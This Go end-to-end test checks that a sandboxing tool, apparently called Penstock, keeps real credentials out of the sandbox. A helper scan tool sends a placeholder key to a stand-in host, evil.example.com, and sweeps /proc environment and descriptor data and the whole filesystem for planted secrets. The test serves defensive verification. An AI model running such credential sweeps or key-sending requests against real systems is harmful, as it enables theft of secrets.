package invariants

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/penstock/penstock/e2e/invariants/host"
)

// TestInvariant06NoSecretInside: no real credential is to be found in the pen,
// nor in anything that Penstock writes, while the origin gets it.
func TestInvariant06NoSecretInside(t *testing.T) {
	host.ForUsers(t, func(t *testing.T, c *host.Caller) {
		const key, token, other = "sk-live-5f2b9d7c1e8a4b60", "ghp_R3alTokenFromFile0123456789", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLE"
		var mu sync.Mutex
		var got []string
		echo := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			defer mu.Unlock()
			got = append(got, r.Header.Get("X-Api-Key")+" "+r.Header.Get("X-Access"))
			http.Error(w, "no", http.StatusTeapot)
		})
		c.World.HTTPS("api.example.com", echo)
		evil := c.World.HTTPS("evil.example.com", echo)
		const clientSecret, access = "client-S3cret-0123456789", "access-T0ken-9876543210"
		c.World.HTTPS("login.example.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if _, pass, _ := r.BasicAuth(); pass == clientSecret {
				w.Header().Set("Content-Type", "application/json")
				fmt.Fprintf(w, `{"access_token": "%s", "expires_in": 3600}`, access)
			}
		}))
		file := c.Home.Write(t, "token", token+"\n")
		c.Home.Write(t, ".netrc", "machine x login y password "+other+"\n")
		c.Home.Write(t, ".aws/credentials", "aws_secret_access_key = "+other+"\n")
		c.Opts.Env = []string{"CLIENT_SECRET=" + clientSecret, "API_KEY=" + key, "AWS_SECRET_ACCESS_KEY=" + other, "SSH_AUTH_SOCK=/tmp/" + other, "UNHEARD_OF=" + other}
		c.More = fmt.Sprintf(`secrets:
  - {name: API_KEY, from: "env:API_KEY", hosts: [api.example.com], header: x-api-key}
  - {name: TOKEN, from: %s, hosts: [api.example.com], header: authorization}
  - {name: ACCESS, from: {oauth2: {token_url: "https://login.example.com/token", client_id: me, client_secret: "env:CLIENT_SECRET"}}, hosts: [api.example.com], header: x-access}`, host.Quote("file:"+file))
		c.Rules = []string{"{host: api.example.com}", "{host: evil.example.com}"}
		c.Run(nil, "/bin/true") // so that the authority's key is there
		keys, err := filepath.Glob(filepath.Join(c.Home.Path, ".local/share/penstock/ca/*"))
		if err != nil || len(keys) == 0 {
			t.Fatal("no authority: ", err)
		}
		needles := []string{key, token, other, clientSecret, access}
		for _, name := range keys {
			b, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			if i := bytes.Index(b, []byte("PRIVATE KEY-----\n")); i >= 0 {
				needles = append(needles, string(b[i+len("PRIVATE KEY-----\n"):][:48]))
			}
		}
		if len(needles) != 6 {
			t.Fatalf("no private key among %v", keys)
		}

		args := []string{"https://api.example.com/", "https://evil.example.com/"}
		for _, n := range needles {
			args = append(args, disguise(n))
		}
		r := c.Tool(nil, "scan", args...)
		if r.Code != 0 || !strings.Contains(r.Stdout, "scanned ") {
			t.Fatalf("the scan failed\n%s", r)
		}
		for _, l := range strings.Split(r.Stdout, "\n") {
			if strings.HasPrefix(l, "FOUND") {
				t.Error(l)
			}
		}
		// The counterpart: the same search finds the placeholder.
		if !strings.Contains(r.Stdout, "placeholder in /proc/") {
			t.Errorf("the scan does not see the environment\n%s", r)
		}
		mu.Lock()
		defer mu.Unlock()
		if len(got) != 1 || got[0] != key+" "+access {
			t.Errorf("the origins got %q, want the value once", got)
		}
		if evil.Hits() != 0 {
			t.Error("a placeholder left for another host")
		}

		c.Other("audit", "ls") // writes the index
		shown := r.Stdout + r.Stderr + c.Other("audit", "show").Stdout + c.Other("audit", "export").Stdout +
			c.Run([]string{"--dry-run", "--json", "-v"}, "true").Stdout
		for _, n := range needles {
			for _, form := range forms(n) {
				if strings.Contains(shown, form) {
					t.Errorf("output has %q", form)
				}
				for name, text := range written(t, c.Home.Path) {
					if strings.Contains(text, form) {
						t.Errorf("%s has %q", name, form)
					}
				}
			}
		}
	})
}

// forms are the ways in which a value can be written.
func forms(s string) []string {
	return []string{s, hex.EncodeToString([]byte(s)), base64.StdEncoding.EncodeToString([]byte(s))[:len(s)], base64.RawURLEncoding.EncodeToString([]byte(s))}
}

// written reads what Penstock keeps, but for the authority itself.
func written(t *testing.T, home string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, dir := range []string{".local/state", ".cache", "project"} {
		err := filepath.WalkDir(filepath.Join(home, dir), func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				b, err := os.ReadFile(p)
				if err != nil {
					return err
				}
				out[p] = string(b)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if len(out) < 3 {
		t.Fatalf("Penstock has written only %v", out)
	}
	return out
}

// disguise makes a needle that is not found where it stands in an argument.
func disguise(s string) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= 0xff
	}
	return hex.EncodeToString(b)
}

func reveal(s string) []byte {
	b, _ := hex.DecodeString(s)
	for i := range b {
		b[i] ^= 0xff
	}
	return b
}

// scanTool uses its placeholder as meant and as not meant, then looks for
// secrets in all that it can read.
func scanTool(args []string) int {
	placeholder := os.Getenv("API_KEY")
	for _, u := range args[:2] {
		req, err := http.NewRequest("GET", u, nil)
		if err != nil {
			return 1
		}
		req.Header.Set("X-Api-Key", placeholder)
		req.Header.Set("X-Access", os.Getenv("ACCESS"))
		resp, err := client().Do(req)
		if err != nil {
			fmt.Println(u, err)
			continue
		}
		fmt.Println(u, resp.StatusCode)
		resp.Body.Close()
	}
	var needles [][]byte
	for _, a := range args[2:] {
		needles = append(needles, reveal(a))
	}
	count := 0
	look := func(name string) {
		b, err := os.ReadFile(name)
		if err != nil {
			return
		}
		count++
		for i, n := range needles {
			if bytes.Contains(b, n) {
				fmt.Printf("FOUND secret %d in %s\n", i, name)
			}
		}
		if placeholder != "" && bytes.Contains(b, []byte(placeholder)) {
			fmt.Println("placeholder in", name)
		}
	}
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		look(p + "/environ")
		look(p + "/cmdline")
		look(p + "/mountinfo")
		fds, _ := filepath.Glob(p + "/fd/*")
		for _, fd := range fds {
			if to, _ := os.Readlink(fd); strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "/dev/") {
				look(fd)
			}
		}
		filepath.WalkDir(p+"/root/run", func(name string, d fs.DirEntry, err error) error { return nil })
	}
	filepath.WalkDir("/", func(name string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() {
			switch name {
			// The system's own, which nobody has put anything into.
			case "/proc", "/sys", "/usr", "/dev", "/tmp/programs":
				return filepath.SkipDir
			}
			return nil
		}
		if fi, err := d.Info(); err == nil && fi.Mode().IsRegular() && fi.Size() < 4<<20 {
			look(name)
		}
		return nil
	})
	fmt.Println("scanned", count)
	return 0
}
